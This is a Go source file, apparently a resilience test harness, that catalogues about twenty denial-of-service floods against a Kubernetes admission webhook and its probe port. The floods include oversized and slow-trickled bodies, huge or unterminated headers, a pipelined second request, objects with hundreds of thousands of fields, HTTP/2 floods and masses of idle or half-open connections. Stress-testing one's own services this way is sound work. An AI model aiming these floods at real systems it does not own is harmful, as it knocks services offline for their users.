package flood

// What a server of 128 MiB was ended or held up by, and their like. In: whom to attack. Out: how it went, in words.
// Errors: they are part of it.

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"
)

// Target is who is attacked.
type Target struct {
	Webhook, Probes string        // addresses
	Within          time.Duration // how long one attack takes at most
}

// ReviewOf is a review of the create of a ConfigMap.
func ReviewOf(name, object string) []byte {
	return []byte(`{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"u-1","kind":{"group":"","version":"v1","kind":"ConfigMap"},` +
		`"resource":{"group":"","version":"v1","resource":"configmaps"},"name":"` + name + `","namespace":"shop","operation":"CREATE","object":` + object + `}}`)
}

// Padded is a review of that many bytes.
func Padded(n int) []byte {
	return ReviewOf("x", `{"metadata":{},"data":{"x":"`+strings.Repeat("x", n)+`"}}`)
}

// Attacks are all of them, by name. Every one has its end. Those whose name begins with HTTP/2 need a server that speaks it.
func Attacks() map[string]func(context.Context, Target) string {
	run := func(f Flood) func(context.Context, Target) string {
		return func(ctx context.Context, to Target) string {
			f := f
			f.Address = to.Webhook
			if f.Plain {
				f.Address = to.Probes
			}
			f.Within = to.Within
			return f.Run(ctx).String()
		}
	}
	sampled := http.Header{"Traceparent": {"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"}}
	body := Padded(6 << 20)
	many := func(n int) string {
		var b strings.Builder
		b.WriteString(`{"metadata":{}`)
		for i := range n {
			fmt.Fprintf(&b, `,"%x":0`, i)
		}
		return b.String() + "}"
	}
	return map[string]func(context.Context, Target) string{
		"200 bodies of 6 MiB, fast":                   run(Flood{Callers: 200, Calls: 3, Body: body}),
		"200 bodies of 6 MiB, fast, in chunks":        run(Flood{Callers: 200, Calls: 3, Body: body, Chunked: true}),
		"200 bodies of 6 MiB, the end slow":           run(Flood{Callers: 200, Body: body, Fast: 6 << 20, Pause: time.Second}),
		"200 bodies of 6 MiB, slow":                   run(Flood{Callers: 200, Body: body, Fast: 100 << 10, Pause: 100 * time.Millisecond}),
		"60 calls with a name of 3 MB, sampled":       run(Flood{Callers: 60, Calls: 5, Body: ReviewOf(strings.Repeat("n", 2900<<10), `{"metadata":{}}`), Header: sampled}),
		"300 calls with a User-Agent of 900 kB":       run(Flood{Callers: 300, Calls: 2, Body: Padded(10), Header: http.Header{"User-Agent": {strings.Repeat("x", 900<<10)}}}),
		"1000 headers of 30 kB, the body slow":        run(Flood{Callers: 1000, Body: Padded(1000), Fast: 900, Pause: time.Second, Header: http.Header{"User-Agent": {strings.Repeat("x", 30<<10)}}}),
		"1000 bodies of 15 kB, the end slow":          run(Flood{Callers: 1000, Body: Padded(16 << 10), Fast: 15 << 10, Pause: time.Second}),
		"1000 bodies of 60 kB, the end slow":          run(Flood{Callers: 1000, Body: Padded(64 << 10), Fast: 60 << 10, Pause: time.Second}),
		"40 objects of 600,000 fields":                run(Flood{Callers: 40, Body: ReviewOf("x", many(600_000))}),
		"40 objects of 400,000 annotations":           run(Flood{Callers: 40, Body: ReviewOf("x", `{"metadata":{"annotations":`+strings.ReplaceAll(many(400_000), ":0", `:""`)+`}}`)}),
		"HTTP/2, 2000 bodies of 60 kB, the end slow":  run(Flood{HTTP2: true, Callers: 2000, Body: Padded(64 << 10), Fast: 60 << 10, Pause: time.Second}),
		"HTTP/2, 200 bodies of 6 MiB, fast":           run(Flood{HTTP2: true, Callers: 200, Calls: 3, Body: body}),
		"HTTP/2, 300 headers of 900 kB":               run(Flood{HTTP2: true, Callers: 300, Body: Padded(10), Header: http.Header{"User-Agent": {strings.Repeat("x", 900<<10)}}}),
		"1000 headers of lines, without an end":       begin(1000, "POST /mutate HTTP/1.1\r\n"+strings.Repeat("a:\r\n", 7000)),
		"1000 headers behind a request":               begin(1000, "GET /mutate HTTP/1.1\r\nHost: x\r\n\r\nPOST /mutate HTTP/1.1\r\n"+strings.Repeat("a:\r\n", 7000)),
		"3000 idle connections":                       idle(3000),
		"3000 connections without a handshake":        silent(3000),
		"3000 handshakes without an end":              hello(3000),
		"2000 requests for readiness, in slow bodies": run(Flood{Plain: true, Callers: 2000, Path: "/readyz", Body: Padded(100), Fast: 50, Pause: time.Second}),
		"200 headers of 900 kB to the port of probes": run(Flood{Plain: true, Callers: 200, Path: "/readyz", Method: http.MethodGet, Header: http.Header{"User-Agent": {strings.Repeat("x", 900<<10)}}}),
	}
}

func idle(n int) func(context.Context, Target) string {
	return func(ctx context.Context, to Target) string {
		open, end := Idle(ctx, to.Webhook, n)
		defer end()
		time.Sleep(to.Within / 2)
		return fmt.Sprintf("%d handshakes", open)
	}
}

func begin(n int, send string) func(context.Context, Target) string {
	return func(ctx context.Context, to Target) string {
		open, end := Begin(ctx, to.Webhook, n, send)
		defer end()
		time.Sleep(to.Within / 2)
		return fmt.Sprintf("%d handshakes", open)
	}
}

func hello(n int) func(context.Context, Target) string {
	return func(ctx context.Context, to Target) string {
		open, end := Hello(ctx, to.Webhook, n)
		defer end()
		time.Sleep(to.Within / 2)
		return fmt.Sprintf("%d connections", open)
	}
}

func silent(n int) func(context.Context, Target) string {
	return func(ctx context.Context, to Target) string {
		open, end := Silent(ctx, to.Webhook, n)
		defer end()
		time.Sleep(to.Within / 2)
		return fmt.Sprintf("%d connections", open)
	}
}
